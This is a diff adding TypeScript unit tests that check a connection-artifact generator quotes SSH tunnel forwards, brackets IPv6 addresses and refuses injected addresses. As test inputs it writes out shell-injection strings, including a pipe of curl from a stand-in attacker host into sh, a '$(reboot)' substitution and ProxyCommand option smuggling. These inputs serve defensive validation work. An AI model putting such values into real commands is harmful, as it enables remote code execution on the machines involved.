@@ -80,4 +80,28 @@ describe("connection artifacts, rules", () => {
   it("refuses values that would break out of an ssh config line", () => {
     expect(() => connectionArtifacts({ ...m, user: 'x"\nProxyCommand evil' }, { keyPath: "k" })).toThrow(/cannot write/);
   });
+
+  // Issue 12, item 7: the desktop tunnel line inserted the private address raw.
+  const desktop: ConnectMachine = { session: "lab", machine: "target", provider: "aws", kind: "VirtualLab", role: "target", os: "windows", protocol: "rdp", user: "Administrator", privateAddress: "10.0.16.5", proxy: { machine: "proxy", address: "203.0.113.4", user: "ubuntu" } };
+
+  it("quotes the tunnel's forward like every other word, and brackets an IPv6 address", () => {
+    expect(connectionArtifacts(desktop).tunnel).toBe("ssh -N -L 13389:10.0.16.5:3389 ubuntu@203.0.113.4");
+    expect(connectionArtifacts({ ...desktop, privateAddress: "fd00::5" }).tunnel).toBe("ssh -N -L '13389:[fd00::5]:3389' ubuntu@203.0.113.4");
+    expect(connectionArtifacts({ ...desktop, privateAddress: "ip-10-0-16-5.eu-west-1.compute.internal" }).tunnel).toBe("ssh -N -L 13389:ip-10-0-16-5.eu-west-1.compute.internal:3389 ubuntu@203.0.113.4");
+    expect(connectionArtifacts({ ...desktop, proxy: undefined, privateAddress: undefined, publicAddress: "2001:db8::9" }).rdpFile).toContain("full address:s:[2001:db8::9]:3389\r\n");
+  });
+
+  it.each([
+    ["a command", "10.0.16.5;curl evil.example|sh"],
+    ["a substitution", "$(reboot)"],
+    ["a space and an option", "10.0.16.5 -oProxyCommand=x"],
+    ["a newline", "10.0.16.5\nHost *"],
+    ["an empty label", "a..b"],
+  ])("refuses an address from the state that is not an IP or a host name: %s", (_name, address) => {
+    expect(() => connectionArtifacts({ ...desktop, privateAddress: address })).toThrow(/recorded in the session's state is not an IP address or a host name .*refusing to print it/);
+    for (const bad of [{ ...m, privateAddress: address }, { ...m, publicAddress: address }, { ...m, proxy: { ...m.proxy!, address } }]) {
+      expect(() => connectionArtifacts(bad)).toThrow(/recorded in the session's state is not an IP address or a host name .*refusing to print it/);
+      expect(() => sshConfigSnippet([bad])).toThrow(/not an IP address or a host name/);
+    }
+  });
 });
